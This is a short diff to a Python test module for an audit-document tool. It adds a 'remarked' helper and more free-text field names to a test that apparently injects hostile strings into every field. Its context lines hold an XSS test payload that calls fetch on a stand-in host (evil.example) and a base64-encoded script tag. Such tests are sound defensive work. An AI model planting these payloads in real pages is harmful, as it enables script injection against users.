@@ -5,7 +5,7 @@ from itertools import cycle
 from typing import Any
 
 from auditor.audit.document import Audit
-from tests.audit_samples import sample_audit
+from tests.audit_samples import remarked, sample_audit
 
 OWNED = "window.owned=1;alert(1);console.log(1);fetch('https://evil.example/')"
 _B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
@@ -421,7 +421,7 @@ SITES = [
 
 FREE_TEXT = {
     "municipality", "title", "name", "issuer", "source", "note", "message", "how", "by", "reason", "found", "vantage",
-    "predecessor", "question", "method", "threshold", "tool_version",
+    "predecessor", "question", "method", "threshold", "tool_version", "text", "who", "contact", "holder",
 }  # fmt: skip
 ADDRESSES = {"url", "renamed_to", "account"}
 
@@ -442,7 +442,7 @@ def everywhere(texts: list[str], links: list[str]) -> tuple[Audit, int]:
             return next(given[kind])
         return value
 
-    document = sample_audit().model_dump(mode="json", by_alias=True)
+    document = remarked(sample_audit()).model_dump(mode="json", by_alias=True)
     return Audit.model_validate(walk(document)), placed[0]
 
 
